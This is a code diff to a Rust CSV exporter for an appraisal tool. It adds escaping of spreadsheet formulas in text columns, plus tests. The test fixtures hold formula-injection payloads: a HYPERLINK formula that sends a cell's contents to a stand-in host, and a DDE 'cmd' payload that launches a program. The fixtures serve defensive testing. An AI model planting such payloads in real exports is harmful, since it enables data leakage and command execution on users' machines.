@@ -9,6 +9,7 @@ use jiff::Timestamp;
 use serde::Serialize;
 
 use super::atomic::write_atomic_with;
+pub use super::csv_cell::CsvCells;
 use super::self_import::format_evidence;
 use domain::aggregate::{UnitScores, ranking};
 use domain::points::fmt_hundredths;
@@ -140,8 +141,14 @@ fn ts(t: Option<Timestamp>) -> String {
 }
 
 /// Write rows as CSV (UTF-8, ',' separated, points with '.', one line per leaf) to any writer.
-pub fn write_csv_to(out: &mut dyn Write, rows: &[ExportRow]) -> io::Result<()> {
-    let mut w = csv::Writer::from_writer(out);
+///
+/// With [`CsvCells::Safe`] every text column — `unit`, `unit_name`, `region`, `code`,
+/// `criterion`, `justification`, `note`, `evidence`, `appraiser` — is neutralised for
+/// spreadsheets (see `csv_cell`); the numbers (`year`, `max`, `self_score`, `proposed`, `delta`,
+/// which may be negative), `method`, `status` and `updated` are thamdinh's own and written as
+/// they are. [`CsvCells::Raw`] writes every cell as it is.
+pub fn write_csv_to(out: &mut dyn Write, rows: &[ExportRow], cells: CsvCells) -> io::Result<()> {
+    let mut w = cells.writer(out);
     w.write_record(CSV_HEADER)?;
     for r in rows {
         let evidence = format_evidence(&r.evidence).map_err(|e| {
@@ -152,21 +159,21 @@ pub fn write_csv_to(out: &mut dyn Write, rows: &[ExportRow]) -> io::Result<()> {
         })?;
         w.write_record([
             r.year.to_string().as_str(),
-            &r.unit,
-            &r.unit_name,
-            &r.region_name,
-            &r.code,
-            &r.criterion,
+            &cells.text(&r.unit),
+            &cells.text(&r.unit_name),
+            &cells.text(&r.region_name),
+            &cells.text(&r.code),
+            &cells.text(&r.criterion),
             &r.max.to_string(),
             method_name(r.method),
             &opt(r.self_score),
             &opt(r.proposed),
             &opt(r.delta),
             r.status.as_str(),
-            &r.justification,
-            &r.note,
-            &evidence,
-            &r.appraiser,
+            &cells.text(&r.justification),
+            &cells.text(&r.note),
+            &cells.text(&evidence),
+            &cells.text(&r.appraiser),
             &ts(r.updated),
         ])?;
     }
@@ -174,8 +181,8 @@ pub fn write_csv_to(out: &mut dyn Write, rows: &[ExportRow]) -> io::Result<()> {
 }
 
 /// Write rows as CSV to `path`, atomically.
-pub fn write_csv(path: &Path, rows: &[ExportRow]) -> io::Result<()> {
-    write_atomic_with(path, |w| write_csv_to(w, rows))
+pub fn write_csv(path: &Path, rows: &[ExportRow], cells: CsvCells) -> io::Result<()> {
+    write_atomic_with(path, |w| write_csv_to(w, rows, cells))
 }
 
 /// A unit's totals, ranks and groups, computed from self and from proposed scores.
@@ -460,7 +467,7 @@ mod tests {
         let units = fixture_units();
         let rows = export_rows(&fw, &units, 2024, &items());
         let mut buf = Vec::new();
-        write_csv_to(&mut buf, &rows).unwrap();
+        write_csv_to(&mut buf, &rows, CsvCells::Safe).unwrap();
         let text = String::from_utf8(buf).unwrap();
         let mut lines = text.lines();
         assert_eq!(lines.next().unwrap(), CSV_HEADER.join(","));
@@ -506,7 +513,7 @@ mod tests {
         let rows = export_rows(&fw, &units, 2024, &its);
         let dir = tempfile::tempdir().unwrap();
         let path = dir.path().join("export.csv");
-        write_csv(&path, &rows).unwrap();
+        write_csv(&path, &rows, CsvCells::Safe).unwrap();
         let bytes = std::fs::read(&path).unwrap();
         let back = parse_self_csv(&bytes, 2024, &fw, &units).unwrap();
         let expected: Vec<_> = its
@@ -527,6 +534,99 @@ mod tests {
             .map(|r| (r.unit, r.leaf, r.score, r.note, r.evidence))
             .collect();
         assert_eq!(got, expected);
+    }
+
+    /// The payloads of SPEC R7's CSV rule.
+    const PAYLOADS: [&str; 4] = [
+        "=HYPERLINK(\"http://x.example/?q=\"&A1,\"bấm\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+    ];
+
+    /// Unit 44's 3.2.1 with payload `k` in its note and justification and in the unit's name.
+    fn hostile(k: usize) -> (UnitSet, Vec<ExportRow>) {
+        let fw = fixture_framework();
+        let mut units = fixture_units();
+        let qb = units.units.iter_mut().find(|u| u.code == "44").unwrap();
+        qb.name = PAYLOADS[k].into();
+        let mut its = items();
+        let it = its
+            .iter_mut()
+            .find(|i| i.key.unit == "44" && i.key.leaf == "3.2.1")
+            .unwrap();
+        it.appraisal.justification = PAYLOADS[k].into();
+        it.self_assessment.as_mut().unwrap().note = PAYLOADS[k].into();
+        let rows = export_rows(&fw, &units, 2024, &its);
+        (units, rows)
+    }
+
+    fn record_of(text: &str, unit: &str, code: &str) -> csv::StringRecord {
+        csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .map(Result::unwrap)
+            .find(|r| &r[1] == unit && &r[4] == code)
+            .unwrap()
+    }
+
+    #[test]
+    fn csv_neutralises_formulas_in_text_and_raw_writes_them_as_they_are() {
+        for (k, &payload) in PAYLOADS.iter().enumerate() {
+            let (_, rows) = hostile(k);
+            let mut buf = Vec::new();
+            write_csv_to(&mut buf, &rows, CsvCells::Safe).unwrap();
+            let text = String::from_utf8(buf).unwrap();
+            let r = record_of(&text, "44", "3.2.1");
+            let marked = format!("'{payload}");
+            // unit_name, justification, note.
+            assert_eq!((&r[2], &r[12], &r[13]), (&*marked, &*marked, &*marked));
+            // Numbers thamdinh writes stay numbers, negative ones too.
+            assert_eq!((&r[8], &r[9], &r[10]), ("1.50", "1.00", "-0.50"));
+            // No cell of the file starts a formula.
+            let mut rd = csv::Reader::from_reader(text.as_bytes());
+            for rec in rd.records() {
+                for (i, cell) in rec.unwrap().iter().enumerate() {
+                    let numeric = [0, 6, 8, 9, 10].contains(&i);
+                    assert!(
+                        numeric || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{cell:?}"
+                    );
+                }
+            }
+
+            let mut buf = Vec::new();
+            write_csv_to(&mut buf, &rows, CsvCells::Raw).unwrap();
+            let raw = String::from_utf8(buf).unwrap();
+            let r = record_of(&raw, "44", "3.2.1");
+            assert_eq!((&r[2], &r[12], &r[13]), (payload, payload, payload));
+        }
+    }
+
+    #[test]
+    fn a_neutralised_export_imports_again_with_its_texts_as_they_were() {
+        let fw = fixture_framework();
+        for (k, &payload) in PAYLOADS.iter().enumerate() {
+            let (units, mut rows) = hostile(k);
+            rows.retain(|r| r.self_score.is_some());
+            let mut buf = Vec::new();
+            write_csv_to(&mut buf, &rows, CsvCells::Safe).unwrap();
+            let back = parse_self_csv(&buf, 2024, &fw, &units).unwrap();
+            let r = back
+                .iter()
+                .find(|r| r.unit == "44" && r.leaf == "3.2.1")
+                .unwrap();
+            assert_eq!(r.note, payload);
+        }
+    }
+
+    #[test]
+    fn a_semicolon_cannot_start_a_cell_for_a_spreadsheet_splitting_on_it() {
+        let (_, mut rows) = hostile(3);
+        rows[0].note = "xem mục 2;=1+1".into();
+        let mut buf = Vec::new();
+        write_csv_to(&mut buf, &rows[..1], CsvCells::Safe).unwrap();
+        let text = String::from_utf8(buf).unwrap();
+        assert!(text.contains(",\"xem mục 2;=1+1\","), "{text}");
     }
 
     #[test]
